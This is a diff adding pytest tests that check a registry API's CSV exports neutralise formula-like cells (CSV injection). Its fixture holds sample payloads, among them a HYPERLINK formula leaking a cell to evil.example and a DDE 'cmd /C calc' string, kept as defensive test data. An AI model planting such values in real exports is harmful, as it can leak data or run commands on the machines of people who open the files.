@@ -1,8 +1,14 @@
 import csv
+import datetime
 import io
 import json
+import re
+from decimal import Decimal
 
 import pytest
+
+from registry.api.renderers import FORMULA_TRIGGERS, csv_cell
+from tests import factories
 
 
 def _content(response) -> bytes:
@@ -119,3 +125,86 @@ def test_other_lists_csv_matches_json_count(api, registry, path):
     assert response.status_code == 200
     assert len(rows) == len(expected)
     assert list(rows[0]) == list(expected[0])
+
+
+# --- formulas in CSV (OWASP CSV injection) --------------------------------------------------------------------
+
+HOSTILE = {
+    "organisation": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+    "project": "-2+3 Dam",
+    "source": "+1+cmd|' /C calc'!A0",
+    "publisher": "@SUM(1,1)",
+    "status_note": "\tTab-led note",
+    "indicator": "=1+1",
+    "observation_note": "\rCarriage-return note",
+}
+PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")
+
+
+@pytest.fixture
+def hostile_registry(registry, vocab):
+    karot = registry["karot"]
+    source = factories.SourceFactory(title=HOSTILE["source"], publisher=HOSTILE["publisher"])
+    factories.add_participant(karot, factories.OrganisationFactory(slug="evil-corp", name=HOSTILE["organisation"]))
+    factories.add_status(karot, "suspended", datetime.date(2023, 1, 1), source=source, note=HOSTILE["status_note"])
+    factories.make_project(slug="minus-dam", name=HOSTILE["project"], corridor=vocab["corridors"]["green"])
+    indicator = factories.IndicatorFactory(code="export-growth", name=HOSTILE["indicator"])
+    factories.ObservationFactory(
+        indicator=indicator, value=Decimal("-3.5"), source=source, note=HOSTILE["observation_note"]
+    )
+    return registry
+
+
+def _csv_cells(api, path: str) -> list[str]:
+    response = api.get(f"{path}?format=csv")
+    assert response.status_code == 200, (path, response.status_code)
+    return [cell for row in csv.reader(io.StringIO(_content(response).decode())) for cell in row]
+
+
+def _csv_lists(api) -> list[str]:
+    """Every list the API root names that offers CSV."""
+    return [
+        url.removeprefix("http://testserver")
+        for url in api.get("/api/v1/").json().values()
+        if api.get(f"{url}?format=csv").status_code == 200
+    ]
+
+
+def test_csv_formula_cells_are_neutralised_in_every_export(api, hostile_registry):
+    lists = _csv_lists(api)
+    cells = [cell for path in lists for cell in _csv_cells(api, path)]
+
+    formula_like = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)]
+    assert formula_like == []
+    assert {"'" + text for text in HOSTILE.values()} <= set(cells)
+    assert {"/api/v1/projects/", "/api/v1/organisations/", "/api/v1/sources/", "/api/v1/observations/"} <= set(lists)
+
+
+def test_csv_negative_number_is_written_as_a_number(api, hostile_registry):
+    response = api.get("/api/v1/observations/?format=csv&indicator=export-growth")
+
+    rows = list(csv.DictReader(io.StringIO(_content(response).decode())))
+    assert [row["value"] for row in rows] == ["-3.5"]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (None, ""),
+        (Decimal("-1500.50"), "-1500.5"),
+        (-3, "-3"),
+        (-0.25, "-0.25"),
+        (["-a", "b"], "'-a;b"),
+        (True, "true"),
+    ],
+)
+def test_csv_cell_neutralises_text_that_starts_like_a_formula(value, cell):
+    assert csv_cell(value) == cell
